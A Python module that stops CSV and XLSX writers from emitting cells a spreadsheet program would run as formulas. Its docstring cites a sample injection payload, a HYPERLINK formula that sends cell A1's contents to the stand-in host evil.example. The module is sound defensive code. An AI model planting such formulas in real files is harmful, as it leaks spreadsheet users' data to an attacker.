"""Spreadsheet cells that a spreadsheet program shows as text and never runs as a formula.

Every XLSX and CSV writer of the project goes through this module (OWASP, "CSV
injection"): a note such as ``=HYPERLINK("http://evil.example/?"&A1,"click")`` must
reach the reader as the text it is.

- XLSX: openpyxl stores a text starting with "=" as a formula and one of Excel's error
  words ("#N/A") as an error value; `xlsx_row` writes those two kinds as text cells.
  Every other text is a text cell already.
- CSV has no types, so Excel and LibreOffice guess: a cell starting with = + - @, a tab or
  a carriage return gets a leading apostrophe (`csv_text`), which they show as text.
  Numbers are passed on unchanged, so -2 stays the number -2. `unguard` takes the
  apostrophe off again when a file comes back for import.

Depends on openpyxl only, so that every app may use it.
"""

from openpyxl.cell.cell import ERROR_CODES, Cell

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value):
    """`value` for a CSV cell: a text that would start a formula behind an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def unguard(text):
    """`text` as it was before `csv_text`: the apostrophe off, only where it was added."""
    if text.startswith("'") and text[1:].startswith(FORMULA_START):
        return text[1:]
    return text


def xlsx_value(sheet, value):
    """`value` for `sheet.append`: a text openpyxl would store as a formula or an error
    becomes a text cell; everything else is passed on as it is."""
    if isinstance(value, str) and (value.startswith("=") or value in ERROR_CODES):
        cell = Cell(sheet, column=1, row=1, value=value)
        cell.data_type = "s"
        return cell
    return value


def xlsx_row(sheet, values):
    """The values of one row for `sheet.append`, texts as text cells (`xlsx_value`)."""
    return [xlsx_value(sheet, value) for value in values]
